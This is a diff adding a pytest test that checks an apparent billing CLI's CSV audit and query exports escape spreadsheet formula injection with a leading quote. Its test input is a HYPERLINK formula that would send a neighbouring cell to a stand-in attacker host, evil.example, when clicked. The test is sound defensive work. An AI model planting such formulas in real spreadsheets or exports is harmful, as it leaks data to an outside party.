@@ -202,3 +202,30 @@ def test_a_reason_the_locale_cannot_spell_prints_as_utf8_not_a_traceback(
     assert b"Traceback" not in result.stderr, result.stderr.decode(errors="replace")
     assert result.returncode == 0
     assert [line for line in result.stdout.decode().splitlines() if reason in line], result.stdout
+
+
+def test_a_reason_that_reads_as_a_formula_is_text_in_every_csv(
+        apps: Any, env: dict[str, str], user: uuid.UUID, service: Any, conn: Any,  # noqa: F811
+        capsys: pytest.CaptureFixture[str]) -> None:
+    """A grant's reason opened from `audit export` or `palette query` CSV in a spreadsheet ran as a
+    formula (this one sends the cell beside it away when clicked): a text cell beginning with
+    = + - @, a tab or a carriage return is written after a quote; a negative number stays one."""
+    import csv
+    import io
+
+    reason = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+    assert cli.main(["admin", "grant", str(user), "7", "--reason", reason]) == 0
+    job = service.create_job(user, "interior", 1).value
+    wait_until(lambda: len(audit.ledger(conn, user)) == 3, timeout_s=60, what="the grant and reserve in the ledger")
+    capsys.readouterr()
+    assert cli.main(["audit", "export", "--format", "csv"]) == 0
+    exported = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
+    assert not [cell for row in exported for cell in row if cell.startswith("=")]
+    mine = [dict(zip(exported[0], row, strict=True)) for row in exported[1:] if str(user) in row]
+    assert [(r["type"], r["balance_delta"], r["ref"]) for r in mine] == [
+        ("grant", "50", "signup"), ("grant", "7", "'" + reason), ("reserve", "-1", str(job))]
+    sql_text = f"SELECT type, balance_delta, ref FROM billing_events WHERE user_id = '{user}' ORDER BY seq"  # noqa: S608
+    assert cli.main(["query", sql_text, "--format", "csv"]) == 0
+    queried = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
+    assert queried == [["type", "balance_delta", "ref"], ["grant", "50", "signup"], ["grant", "7", "'" + reason],
+                       ["reserve", "-1", str(job)]]
